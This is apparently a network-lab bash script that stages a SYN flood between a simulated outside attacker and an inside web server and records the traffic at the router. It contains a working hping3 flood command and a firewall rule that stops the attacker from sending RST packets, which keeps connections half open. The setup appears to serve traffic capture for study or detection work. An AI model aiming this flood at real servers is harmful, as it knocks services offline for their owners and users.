#!/bin/bash
# hping3: SYN flood of a web server by one source whose firewall keeps its own
# kernel from sending RST, as the trade does: the connections stay half open.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
drops attacker output tcp flags rst
record router wan -s 96
on attacker timeout 12 hping3 -q -n -I eth0 -S -p 80 -i u300 -c 8000 10.20.0.10 >/dev/null 2>&1 || true
LAB_TAIL=3 recorded
